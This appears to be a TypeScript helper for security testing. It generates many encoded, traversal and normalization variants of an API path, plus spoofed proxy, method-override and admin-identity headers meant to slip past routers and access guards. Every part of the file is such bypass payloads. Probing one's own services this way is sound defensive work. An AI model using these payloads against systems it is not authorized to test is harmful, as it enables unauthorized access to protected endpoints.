export const METHODS = ['GET', 'HEAD', 'OPTIONS', 'TRACE', 'PROPFIND', 'get', 'M-SEARCH'];

/** Ways to write a path that some routers, proxies and guards read differently from others. */
export function spellingsOf(path: string): string[] {
  const [last = ''] = path.split('/').slice(-1);
  const stem = path.slice(0, -last.length);
  const hex = (text: string): string =>
    Array.from(text)
      .map((letter) => `%${letter.charCodeAt(0).toString(16)}`)
      .join('');
  return [
    path,
    `${path}/`,
    `${path}//`,
    `${path}/.`,
    `${path}/..;/${last}`,
    `${path}%2f`,
    `${path}%00`,
    `${path}%20`,
    `${path}%0a`,
    `${path}%09`,
    `${path}%23`,
    `${path};a=b`,
    `${path}.json`,
    `${path}?`,
    `${path}?/../../public`,
    `${path}#/api/v1/public`,
    `/${path}`,
    `//127.0.0.1${path}`,
    `/.${path}`,
    `/x/..${path}`,
    `/x/%2e%2e${path}`,
    `/%2e${path}`,
    `/api/v1/public/..${path.replace('/api/v1', '')}`,
    `/api/v1/public/%2e%2e${path.replace('/api/v1', '')}`,
    `/api/v1/public/..%2f${path.replace('/api/v1/', '')}`,
    `/api/v1/public/%252e%252e${path.replace('/api/v1', '')}`,
    `/health/live/..${path}`,
    `/docs/..${path}`,
    `/docs/%2e%2e${path}`,
    stem + hex(last),
    path.replace('/api', `/${hex('api')}`),
    path.replaceAll('/', '//').slice(1),
    path.replaceAll('/', '/./').slice(2),
    path.replaceAll('/', '\\'),
    path.replaceAll('/', '%2f'),
    path.replaceAll('/', '%5c'),
    path.toUpperCase(),
    `http://evil.example${path}`,
    `http://evil.example:80@127.0.0.1${path}`,
    `${path}%c0%ae`,
    `${path}\u00ad`,
  ];
}

/** Headers that claim what a proxy in front might say. */
export const OVERRIDES: Record<string, string>[] = [
  { 'x-http-method-override': 'DELETE' },
  { 'x-http-method': 'DELETE' },
  { 'x-method-override': 'PUT' },
  { 'x-original-url': '/api/v1/public/tenants/x' },
  { 'x-rewrite-url': '/api/v1/public/tenants/x' },
  { 'x-forwarded-prefix': '/public' },
  { 'x-forwarded-host': 'localhost' },
  { 'x-forwarded-for': '127.0.0.1' },
  { 'x-forwarded-for': '127.0.0.1, 127.0.0.1, 127.0.0.1' },
  { forwarded: 'for=127.0.0.1;host=localhost;proto=https' },
  { 'x-real-ip': '127.0.0.1' },
  { 'x-remote-user': 'admin', 'x-forwarded-user': 'admin', 'remote-user': 'admin' },
  { 'x-tenant-id': '00000000-0000-0000-0000-000000000000', 'x-role': 'ADMIN' },
  { authorization: 'Negotiate x' },
  { 'x-api-version': '2', accept: 'text/html' },
  { 'transfer-encoding': 'identity' },
  { upgrade: 'websocket', connection: 'upgrade' },
  { 'if-none-match': '*' },
];
